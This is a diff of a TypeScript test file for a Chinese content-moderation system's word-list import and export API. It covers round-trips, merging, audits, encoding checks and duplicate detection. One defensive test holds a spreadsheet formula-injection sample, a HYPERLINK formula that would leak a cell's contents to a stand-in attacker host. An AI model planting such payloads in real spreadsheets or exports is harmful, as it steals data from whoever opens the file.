@@ -3,10 +3,8 @@ import { randomBytes } from 'node:crypto';
 import fs from 'node:fs';
 import { AllowWord, Term } from '../../server/models';
 import { wordlistPath } from '../../workers/lib/projectRoot';
-import { ApiClient } from '../support/apiClient';
 import { gbkBytes } from '../support/gbk';
-import { startTestProduct } from '../support/testProduct';
-import { allEntries, distinctNumber, importTsv, keepWordLists, securityAdmin, tracedCall, versionOf } from './termSupport';
+import { allEntries, distinctNumber, importTsv, tracedCall, versionOf, wordListAdminSuite } from './termSupport';
 
 const tag = () => randomBytes(3).toString('hex');
 
@@ -22,20 +20,12 @@ const dataLines = (tsv: string) =>
 
 describe('word-list import and export', function () {
   this.timeout(180_000);
-  let admin: ApiClient;
-  let restore: () => Promise<void>;
-
-  before(async () => {
-    const { url } = await startTestProduct();
-    admin = await securityAdmin(url);
-    restore = await keepWordLists();
-  });
-  after(() => restore());
+  const lists = wordListAdminSuite();
 
   it('exports the whole term list as TSV in the shipped format, audited, and imports the export back unchanged', async () => {
-    const before = await allEntries(admin, 'terms');
+    const before = await allEntries(lists.admin, 'terms');
     const version = await versionOf('terms');
-    const exported = await tracedCall(admin, 'GET', '/api/terms/export');
+    const exported = await tracedCall(lists.admin, 'GET', '/api/terms/export');
     assert.equal(exported.status, 200);
     assert.match(exported.headers.get('content-type') ?? '', /^text\/tab-separated-values/);
     assert.match(exported.headers.get('content-disposition') ?? '', new RegExp(`terms-v${version}\\.tsv`));
@@ -49,7 +39,7 @@ describe('word-list import and export', function () {
     assert.equal(rows.length, before.length);
     assert.ok(before.length > 10_000, 'the seeded lists');
 
-    const reimported = await importTsv(admin, 'terms', exported.body as string, 'replace');
+    const reimported = await importTsv(lists.admin, 'terms', exported.body as string, 'replace');
     assert.equal(reimported.status, 200, JSON.stringify(reimported.body).slice(0, 500));
     assert.deepEqual(
       [reimported.body.created, reimported.body.updated, reimported.body.deleted, reimported.body.unchanged, reimported.body.version],
@@ -57,59 +47,59 @@ describe('word-list import and export', function () {
       'nothing changed: no new version',
     );
     assert.deepEqual(reimported.audit, []);
-    assert.deepEqual(contents(await allEntries(admin, 'terms')), contents(before));
+    assert.deepEqual(contents(await allEntries(lists.admin, 'terms')), contents(before));
   });
 
   it('exports a filtered part as JSON that imports back as it is, for both lists', async () => {
-    const porn = await tracedCall(admin, 'GET', '/api/terms/export?format=json&category=porn&enabled=true');
+    const porn = await tracedCall(lists.admin, 'GET', '/api/terms/export?format=json&category=porn&enabled=true');
     assert.equal(porn.status, 200);
     assert.match(porn.headers.get('content-disposition') ?? '', /terms-v\d+-filtered\.json/);
-    const listed = await allEntries(admin, 'terms', 'category=porn&enabled=true');
+    const listed = await allEntries(lists.admin, 'terms', 'category=porn&enabled=true');
     assert.equal(porn.body.entries.length, listed.length);
     assert.ok(porn.body.entries.every((entry: any) => entry.category === 'porn' && entry.enabled === true));
     assert.deepEqual(Object.keys(porn.body.entries[0]).sort(), ['category', 'enabled', 'note', 'severity', 'term']);
     assert.deepEqual(porn.audit[0]!.detail.filter, { category: 'porn', enabled: true });
-    const back = await admin.post('/api/terms/import', porn.body);
+    const back = await lists.admin.post('/api/terms/import', porn.body);
     assert.equal(back.status, 200, JSON.stringify(back.body).slice(0, 500));
     assert.deepEqual([back.body.unchanged, back.body.created + back.body.updated + back.body.deleted], [listed.length, 0]);
 
-    const allow = await admin.get('/api/allow-words/export?format=json');
+    const allow = await lists.admin.get('/api/allow-words/export?format=json');
     assert.deepEqual(Object.keys(allow.body.entries[0]).sort(), ['enabled', 'note', 'word']);
-    const allowBack = await admin.post('/api/allow-words/import', { ...allow.body, mode: 'replace' });
+    const allowBack = await lists.admin.post('/api/allow-words/import', { ...allow.body, mode: 'replace' });
     assert.equal(allowBack.status, 200, JSON.stringify(allowBack.body).slice(0, 500));
     assert.equal(allowBack.body.unchanged, allow.body.entries.length);
-    const wrongList = await admin.post('/api/allow-words/import', porn.body);
+    const wrongList = await lists.admin.post('/api/allow-words/import', porn.body);
     assert.equal(wrongList.status, 400);
     assert.match(wrongList.body.error.message, /词表 terms 的导出文件，不能导入到 allow-words/);
 
-    const allowTsv = await admin.get('/api/allow-words/export?q=路口');
+    const allowTsv = await lists.admin.get('/api/allow-words/export?q=路口');
     assert.deepEqual(dataLines(allowTsv.body as string)[0], ['word', 'note', 'enabled']);
   });
 
   it('imports a shipped list file as it is (it is what the table was seeded with)', async () => {
     const shipped = fs.readFileSync(wordlistPath('terms/porn.tsv'), 'utf8');
-    const answer = await importTsv(admin, 'terms', shipped);
+    const answer = await importTsv(lists.admin, 'terms', shipped);
     assert.equal(answer.status, 200, JSON.stringify(answer.body).slice(0, 500));
     assert.deepEqual([answer.body.created, answer.body.updated, answer.body.deleted], [0, 0, 0]);
     assert.ok(answer.body.unchanged > 10);
-    const allow = await importTsv(admin, 'allow-words', fs.readFileSync(wordlistPath('allow-words.tsv'), 'utf8'));
+    const allow = await importTsv(lists.admin, 'allow-words', fs.readFileSync(wordlistPath('allow-words.tsv'), 'utf8'));
     assert.deepEqual([allow.status, allow.body.created, allow.body.updated], [200, 0, 0]);
   });
 
   it('merges: adds new terms, updates the ones it names, keeps what a column leaves out; audits every change and the import', async () => {
     const t = tag();
-    const kept = await admin.post('/api/terms', { term: `合并旧词甲${t}`, category: 'fraud', severity: 'review', note: '原备注' });
-    const disabled = await admin.post('/api/terms', { term: `合并旧词乙${t}`, category: 'fraud', severity: 'review', enabled: false });
+    const kept = await lists.admin.post('/api/terms', { term: `合并旧词甲${t}`, category: 'fraud', severity: 'review', note: '原备注' });
+    const disabled = await lists.admin.post('/api/terms', { term: `合并旧词乙${t}`, category: 'fraud', severity: 'review', enabled: false });
     const version = await versionOf('terms');
     const tsv = ['term\tcategory\tseverity', `合并旧词甲${t}\tfraud\tblock`, `合并旧词乙${t}\tfraud\tblock`, `合并新词${t}\tgambling\treview`].join('\n');
-    const answer = await importTsv(admin, 'terms', tsv);
+    const answer = await importTsv(lists.admin, 'terms', tsv);
     assert.equal(answer.status, 200, JSON.stringify(answer.body));
     assert.deepEqual(answer.body, { list: 'terms', mode: 'merge', format: 'tsv', rows: 3, created: 1, updated: 2, deleted: 0, unchanged: 0, version: version + 1, warnings: [], warningCount: 0 });
 
     const [first, second, created] = await Promise.all([
-      admin.get(`/api/terms/${kept.body.id}`),
-      admin.get(`/api/terms/${disabled.body.id}`),
-      admin.get(`/api/terms?q=${encodeURIComponent(`合并新词${t}`)}`),
+      lists.admin.get(`/api/terms/${kept.body.id}`),
+      lists.admin.get(`/api/terms/${disabled.body.id}`),
+      lists.admin.get(`/api/terms?q=${encodeURIComponent(`合并新词${t}`)}`),
     ]);
     assert.deepEqual([first.body.severity, first.body.note, first.body.enabled], ['block', '原备注', true], 'no note column: the note stays');
     assert.deepEqual([second.body.severity, second.body.enabled], ['block', false], 'no enabled column: a disabled term stays disabled');
@@ -125,8 +115,8 @@ describe('word-list import and export', function () {
     assert.deepEqual(entries.created, [{ id: created.body.items[0].id, term: `合并新词${t}`, category: 'gambling', severity: 'review', note: null, enabled: true }]);
     assert.deepEqual(answer.audit[1]!.detail, { kind: 'terms', version: version + 1, format: 'tsv', mode: 'merge', rows: 3, created: 1, updated: 2, deleted: 0, unchanged: 0, parts: 1 });
 
-    const states = await importTsv(admin, 'terms', `term\tcategory\tseverity\tnote\tenabled\n合并旧词乙${t}\tfraud\tblock\t\tyes\n`);
-    assert.deepEqual([states.body.updated, (await admin.get(`/api/terms/${disabled.body.id}`)).body.enabled], [1, true], 'an enabled column sets the state');
+    const states = await importTsv(lists.admin, 'terms', `term\tcategory\tseverity\tnote\tenabled\n合并旧词乙${t}\tfraud\tblock\t\tyes\n`);
+    assert.deepEqual([states.body.updated, (await lists.admin.get(`/api/terms/${disabled.body.id}`)).body.enabled], [1, true], 'an enabled column sets the state');
   });
 
   it('guards cells a spreadsheet would run as a formula, and strips exactly that guard on import', async () => {
@@ -134,10 +124,10 @@ describe('word-list import and export', function () {
     const risky = [`=HYPERLINK("http://evil.example/?leak="&A2,"点此核验")${t}`, `+86公式${t}`, `-减号${t}`, `@提及${t}`];
     const quoted = [`'单引号开头${t}`, `'=引号加等号${t}`, `''+两个引号${t}`];
     for (const term of [...risky, ...quoted]) {
-      const created = await admin.post('/api/terms', { term, category: 'politics', severity: 'notice', note: `=1+1 ${t}` });
+      const created = await lists.admin.post('/api/terms', { term, category: 'politics', severity: 'notice', note: `=1+1 ${t}` });
       assert.equal(created.status, 201, JSON.stringify(created.body));
     }
-    const exported = await admin.get(`/api/terms/export?format=tsv&q=${t}`);
+    const exported = await lists.admin.get(`/api/terms/export?format=tsv&q=${t}`);
     assert.equal(exported.status, 200);
     const cells = new Map(dataLines(exported.body as string).slice(1).map((cells) => [cells[0]!, cells]));
     assert.equal(cells.size, risky.length + quoted.length);
@@ -147,10 +137,10 @@ describe('word-list import and export', function () {
     for (const row of cells.values()) assert.equal(row[3], `'=1+1 ${t}`, 'every column is guarded');
     for (const cell of [...cells.values()].flat()) assert.doesNotMatch(cell, /^[=+\-@]/);
 
-    const reimported = await importTsv(admin, 'terms', exported.body as string);
+    const reimported = await importTsv(lists.admin, 'terms', exported.body as string);
     assert.equal(reimported.status, 200, JSON.stringify(reimported.body));
     assert.deepEqual([reimported.body.created, reimported.body.updated, reimported.body.unchanged], [0, 0, risky.length + quoted.length], 'the export imports back unchanged');
-    const stored = await allEntries(admin, 'terms', `q=${t}`);
+    const stored = await allEntries(lists.admin, 'terms', `q=${t}`);
     assert.deepEqual(stored.map((e) => e.term).sort(), [...risky, ...quoted].sort());
     assert.ok(stored.every((e) => e.note === `=1+1 ${t}`));
   });
@@ -171,7 +161,7 @@ describe('word-list import and export', function () {
       `全有全无丁${t}\tporn\tblock\t备注\t多余`,
       `全有全无戊${t}\tporn\tblock\t\tmaybe`,
     ].join('\n');
-    const answer = await importTsv(admin, 'terms', tsv.replace('\t\tmaybe', '\t'));
+    const answer = await importTsv(lists.admin, 'terms', tsv.replace('\t\tmaybe', '\t'));
     assert.equal(answer.status, 400, JSON.stringify(answer.body));
     const message = answer.body.error.message as string;
     assert.match(message, /^导入未执行，没有写入任何词条/);
@@ -196,26 +186,26 @@ describe('word-list import and export', function () {
     assert.deepEqual(answer.audit, []);
 
     // The file is well-formed but would add terms the matcher cannot use: refused the same way.
-    const short = await importTsv(admin, 'terms', ['term\tcategory\tseverity', `全有全无甲${t}\tporn\tblock`, '赌\tgambling\tblock', '★★\tgambling\tblock'].join('\n'));
+    const short = await importTsv(lists.admin, 'terms', ['term\tcategory\tseverity', `全有全无甲${t}\tporn\tblock`, '赌\tgambling\tblock', '★★\tgambling\tblock'].join('\n'));
     assert.equal(short.status, 400);
     assert.match(short.body.error.message, /第 3 行 词语（term）：“赌”归一化后只剩一个字/);
     assert.match(short.body.error.message, /第 4 行 词语（term）：“★★”归一化后为空/);
     assert.equal(await Term.count({ where: { term: `全有全无甲${t}` } }), 0, 'not even the good row');
     assert.equal(await versionOf('terms'), version, 'and no new version');
 
-    const enabledValue = await admin.post('/api/terms/import', { entries: [{ term: `全有全无己${t}`, category: 'porn', severity: 'block', enabled: 'maybe' }, { term: 7 }] });
+    const enabledValue = await lists.admin.post('/api/terms/import', { entries: [{ term: `全有全无己${t}`, category: 'porn', severity: 'block', enabled: 'maybe' }, { term: 7 }] });
     assert.equal(enabledValue.status, 400);
     assert.match(enabledValue.body.error.message, /第 1 条 启用（enabled）：须为 yes 或 no/);
     assert.match(enabledValue.body.error.message, /第 2 条 词语（term）：须为文本/);
-    const header = await importTsv(admin, 'terms', 'word\tseverity\ncolour\tblock\n');
+    const header = await importTsv(lists.admin, 'terms', 'word\tseverity\ncolour\tblock\n');
     assert.equal(header.status, 400);
     assert.match(header.body.error.message, /第 1 行（表头）不认识的列 word；缺少列 term、category/);
   });
 
   it('replaces: deletes every entry the upload does not name, and keeps each one in the audit trail', async () => {
-    const exported = await admin.get('/api/allow-words/export?format=json');
+    const exported = await lists.admin.get('/api/allow-words/export?format=json');
     const kept = exported.body.entries.slice(0, 3);
-    const answer = await tracedCall(admin, 'POST', '/api/allow-words/import', { mode: 'replace', entries: kept });
+    const answer = await tracedCall(lists.admin, 'POST', '/api/allow-words/import', { mode: 'replace', entries: kept });
     assert.equal(answer.status, 200, JSON.stringify(answer.body));
     assert.deepEqual([answer.body.deleted, answer.body.unchanged], [exported.body.entries.length - 3, 3]);
     assert.equal(await AllowWord.count(), 3);
@@ -225,14 +215,14 @@ describe('word-list import and export', function () {
       exported.body.entries.slice(3).map((e: any) => e.word).sort(),
       'every deleted allow-word is on record',
     );
-    const again = await tracedCall(admin, 'POST', '/api/allow-words/import', { mode: 'merge', entries: exported.body.entries });
+    const again = await tracedCall(lists.admin, 'POST', '/api/allow-words/import', { mode: 'merge', entries: exported.body.entries });
     assert.equal(again.body.created, exported.body.entries.length - 3);
   });
 
   it('spreads the changes of a large import over a few audit records, each within the log column', async () => {
     const t = tag();
     const rows = Array.from({ length: 5000 }, (_, i) => `大批导入${t}词${distinctNumber(i)}\tfraud\treview\t第 ${i} 条：批量导入测试`);
-    const answer = await importTsv(admin, 'terms', ['term\tcategory\tseverity\tnote', ...rows].join('\n'));
+    const answer = await importTsv(lists.admin, 'terms', ['term\tcategory\tseverity\tnote', ...rows].join('\n'));
     assert.equal(answer.status, 200, JSON.stringify(answer.body).slice(0, 500));
     assert.equal(answer.body.created, 5000);
     const parts = answer.audit.filter((r) => r.eventType === 'term.import.entries');
@@ -245,7 +235,7 @@ describe('word-list import and export', function () {
     assert.equal(created.find((c: any) => c.term === `大批导入${t}词${distinctNumber(4999)}`).id, stored!.id);
     assert.equal(answer.audit.at(-1)!.eventType, 'term.import');
 
-    const removed = await admin.post('/api/terms/import', { entries: [] , mode: 'merge' });
+    const removed = await lists.admin.post('/api/terms/import', { entries: [] , mode: 'merge' });
     assert.equal(removed.body.created + removed.body.deleted, 0, 'an empty merge changes nothing');
   });
 
@@ -253,7 +243,7 @@ describe('word-list import and export', function () {
     const file = gbkBytes('term\tcategory\tseverity\tnote\nQQ测试词\tvulgar\treview\t国标备注\n');
     const total = await Term.count();
     const version = await versionOf('terms');
-    const refused = await tracedCall(admin, 'POST', '/api/terms/import?mode=merge', file, { 'content-type': 'text/tab-separated-values' });
+    const refused = await tracedCall(lists.admin, 'POST', '/api/terms/import?mode=merge', file, { 'content-type': 'text/tab-separated-values' });
     assert.equal(refused.status, 400, JSON.stringify(refused.body));
     assert.match(refused.body.error.message, /^导入未执行：文件不是 UTF-8 编码（第 2 行有无法识别的字符）。.*UTF-8/);
     assert.deepEqual(refused.body.error.details.map((d: any) => d.row), [2]);
@@ -263,11 +253,11 @@ describe('word-list import and export', function () {
 
     const allowWords = await AllowWord.count();
     const allowFile = gbkBytes('# exported\nword\tnote\n测试词\n');
-    const refusedAllow = await tracedCall(admin, 'POST', '/api/allow-words/import?mode=merge', allowFile, { 'content-type': 'text/tab-separated-values' });
+    const refusedAllow = await tracedCall(lists.admin, 'POST', '/api/allow-words/import?mode=merge', allowFile, { 'content-type': 'text/tab-separated-values' });
     assert.equal(refusedAllow.status, 400);
     assert.match(refusedAllow.body.error.message, /第 3 行有无法识别的字符/);
     const json = gbkBytes(`{"mode":"merge","entries":[{"word":"ok${tag()}"},{"word":"测试词"}]}`);
-    const refusedJson = await admin.post('/api/allow-words/import', json);
+    const refusedJson = await lists.admin.post('/api/allow-words/import', json);
     assert.equal(refusedJson.status, 400);
     assert.match(refusedJson.body.error.message, /文件不是 UTF-8 编码（第 2 条有无法识别的字符）/);
     assert.equal(await AllowWord.count(), allowWords);
@@ -276,7 +266,7 @@ describe('word-list import and export', function () {
   it('imports common words with warnings', async () => {
     const t = tag();
     const tsv = ['term\tcategory\tseverity', '工作\tpolitical\treview', `警告测试${t}\tporn\tblock`].join('\n');
-    const answer = await importTsv(admin, 'terms', tsv);
+    const answer = await importTsv(lists.admin, 'terms', tsv);
     assert.equal(answer.status, 200, JSON.stringify(answer.body));
     assert.equal(answer.body.created, 2);
     assert.deepEqual(answer.body.warnings.map((w: any) => [w.row, w.code]), [[2, 'common_word']]);
@@ -287,12 +277,12 @@ describe('word-list import and export', function () {
     const t = tag();
     const total = await Term.count();
     const version = await versionOf('terms');
-    const stored = await admin.post('/api/terms', { term: `法轮功${t}`, category: 'cult', severity: 'block' });
+    const stored = await lists.admin.post('/api/terms', { term: `法轮功${t}`, category: 'cult', severity: 'block' });
     assert.equal(stored.status, 201, JSON.stringify(stored.body));
-    const form = await admin.post('/api/terms', { term: `法 輪 功${t}`, category: 'cult', severity: 'block' });
+    const form = await lists.admin.post('/api/terms', { term: `法 輪 功${t}`, category: 'cult', severity: 'block' });
     assert.equal(form.status, 409, 'the add form refuses it');
     const tsv = ['term\tcategory\tseverity', `新词甲${t}\tporn\tblock`, `法 輪 功${t}\tcult\tblock`, `警告测试${t}\tporn\tblock`, `警 告 測 試${t}\tporn\tblock`].join('\n');
-    const answer = await importTsv(admin, 'terms', tsv);
+    const answer = await importTsv(lists.admin, 'terms', tsv);
     assert.equal(answer.status, 400, JSON.stringify(answer.body));
     const message = answer.body.error.message as string;
     assert.ok(message.includes(`第 3 行 词语（term）：“法 輪 功${t}”与敏感词表中已有的“法轮功${t}”（编号 ${stored.body.id}）归一化后相同`), message);
@@ -301,7 +291,7 @@ describe('word-list import and export', function () {
     assert.equal(await Term.count(), total + 1, 'nothing imported');
     assert.equal(await versionOf('terms'), version + 1, 'only the form’s entry changed the version');
 
-    const json = await admin.post('/api/terms/import', { entries: [{ term: `法輪功${t}`, category: 'cult', severity: 'block' }] });
+    const json = await lists.admin.post('/api/terms/import', { entries: [{ term: `法輪功${t}`, category: 'cult', severity: 'block' }] });
     assert.equal(json.status, 400);
     assert.match(json.body.error.message, /第 1 条 词语（term）：.*已有的“法轮功/);
   });
